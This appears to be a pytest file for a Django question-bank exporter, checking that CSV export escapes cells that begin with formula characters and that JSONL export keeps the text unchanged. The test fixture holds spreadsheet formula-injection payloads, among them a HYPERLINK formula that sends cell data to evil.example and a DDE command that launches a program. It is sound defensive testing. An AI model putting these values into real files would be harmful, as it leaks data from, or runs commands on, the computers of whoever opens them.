"""L7: a CSV export never hands a spreadsheet a formula written by a learner."""

import csv
import io

import pytest
from django.core.management import call_command

from tests.conftest import make_question

HOSTILE = {
    "stem": '=HYPERLINK("http://evil.example/?"&A1,"클릭")',
    "choice_1": "+1+cmd|' /C calc'!A0",
    "choice_2": "-2+3",
    "choice_3": "@SUM(1,2)",
    "choice_4": "\t=1+1",
    "subject": "\r=1",
    "explanation": "=평범한 해설",
}


@pytest.mark.parametrize("fmt", ["csv"])
def test_formula_leading_cells_are_neutralised(topic, tmp_path, fmt):
    make_question(topic, 1, **HOSTILE)
    make_question(topic, 2, stem="보통 문제 = 아님", choice_1="1-2")
    target = tmp_path / "bank.csv"

    call_command(
        "export_questions",
        topic=topic.name,
        format=fmt,
        output=target,
        stderr=io.StringIO(),
    )

    rows = list(csv.DictReader(target.open(encoding="utf-8", newline="")))
    first, second = rows
    for column in ("stem", "choice_1", "choice_2", "choice_3", "choice_4"):
        assert first[column][0] == "'", column
        assert first[column][1:] == HOSTILE[column]
    assert first["subject"] == "'" + HOSTILE["subject"]
    assert first["source_explanation"] == "'" + HOSTILE["explanation"]
    # Ordinary text and numbers are left alone.
    assert second["stem"] == "보통 문제 = 아님" and second["choice_1"] == "1-2"
    assert second["exam_year"] == "2020" and second["number"] == "2"


def test_jsonl_keeps_the_text_as_written(topic):
    make_question(topic, 1, **HOSTILE)
    out = io.StringIO()
    call_command("export_questions", topic=topic.name, stdout=out)
    assert HOSTILE["stem"] in out.getvalue().replace('\\"', '"')
